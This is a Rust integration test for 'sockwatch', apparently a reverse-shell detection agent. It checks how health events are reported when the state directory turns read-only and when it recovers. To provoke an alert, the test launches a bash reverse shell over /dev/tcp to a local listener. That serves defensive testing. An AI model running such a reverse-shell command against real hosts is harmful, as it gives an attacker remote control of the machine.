//! The agent's own health, with the real binary: health events carry a severity a filtered sink
//! lets through, and a state directory that stops taking writes is said once — to the sinks
//! and to stderr — and so is its return.

use crate::agent::Agent;
use crate::shells::{Catcher, Group, is_incident_for};
use crate::util::{ScratchDir, Tmpfs, prerequisites};
use serde_json::Value;
use std::time::{Duration, Instant};

fn action(e: &Value) -> &str {
    e["event"]["action"].as_str().unwrap_or("")
}

fn lines(path: &std::path::Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap_or_default();
    text.lines().map(|l| serde_json::from_str(l).expect("a JSON line")).collect()
}

#[test]
fn a_read_only_state_directory_is_reported_once_at_medium_and_so_is_its_return() {
    if !prerequisites(&["python3", "mount", "umount"]) {
        return;
    }
    let dir = ScratchDir::new("health-state");
    let state = Tmpfs::mount(&dir.path.join("state"), "1m");
    state.remount("ro");
    let medium = dir.path.join("medium.ndjson");
    let config = dir.path.join("sockwatch.toml");
    std::fs::write(
        &config,
        format!(
            "[agent]\nheartbeat = \"500ms\"\n[[sinks]]\ntype = \"stdout\"\n\
             [[sinks]]\ntype = \"file\"\npath = \"{}\"\nfsync_interval = \"100ms\"\n\
             min_severity = \"medium\"\n",
            medium.display()
        ),
    )
    .unwrap();
    let config = config.to_str().unwrap();
    let agent = Agent::start_in(&state.path, &["--config", config, "--no-baseline"]);
    let unavailable = agent.wait_for("state_unavailable", |e| action(e) == "state_unavailable");
    assert_eq!(unavailable["event"]["severity"], 3, "{unavailable}");
    assert_eq!(unavailable["event"]["outcome"], "failure", "{unavailable}");
    let error = unavailable["sockwatch"]["error"].as_str().unwrap();
    assert!(error.contains("Read-only file system"), "{error}");

    // A shell the agent cannot keep a record of is still alerted on, and the failing saves of
    // its incident are not reported again.
    let catcher = Catcher::start(&["tcp-listen"]);
    let port = catcher.port();
    let shell = Group::start(&format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"));
    assert!(catcher.wait("ready").is_some(), "the reverse shell never answered");
    agent.wait_for("incident_opened", |e| is_incident_for(e, port));
    // Several scans with the incident open, each failing to save nothing new.
    std::thread::sleep(Duration::from_millis(1000));

    state.remount("rw");
    drop(shell);
    let recovered = agent.wait_for("state_recovered", |e| action(e) == "state_recovered");
    assert_eq!(
        (recovered["event"]["severity"].as_u64(), recovered["event"]["outcome"].as_str()),
        (Some(3), Some("success")),
        "{recovered}"
    );
    assert!(recovered["sockwatch"]["failed_writes"].as_u64().unwrap() >= 2, "{recovered}");
    assert!(state.path.join("incidents.json").exists(), "written once the directory took writes");

    // The heartbeat after the outage counts what failed.
    let since = Instant::now();
    let heartbeat = agent.wait_for("a heartbeat after the recovery", |e| {
        action(e) == "heartbeat" && since.elapsed() > Duration::from_millis(600)
    });
    assert!(heartbeat["sockwatch"]["detection"]["state_writes_failed"].as_u64().unwrap() >= 2);
    let (status, events, stderr) = agent.stop_with_stderr();
    assert!(status.success());
    let told = events.iter().filter(|e| action(e) == "state_unavailable").count();
    assert_eq!(told, 1, "once per outage");
    for health in ["state_unavailable", "state_recovered"] {
        let line = format!("\"sockwatch\":\"{health}\"");
        assert!(stderr.lines().filter(|l| l.contains(&line)).count() == 1, "{health}: {stderr}");
    }

    // The sink filtered at medium got the health events and the alert, and no telemetry.
    let filtered = lines(&medium);
    let actions: Vec<&str> = filtered.iter().map(action).collect();
    for wanted in ["state_unavailable", "incident_opened", "state_recovered"] {
        assert!(actions.contains(&wanted), "{wanted} missing at medium: {actions:?}");
    }
    assert!(filtered.iter().all(|e| e["event"]["severity"].as_u64().unwrap() >= 3), "{actions:?}");
    assert!(events.iter().any(|e| action(e) == "heartbeat"), "stdout takes everything");
}
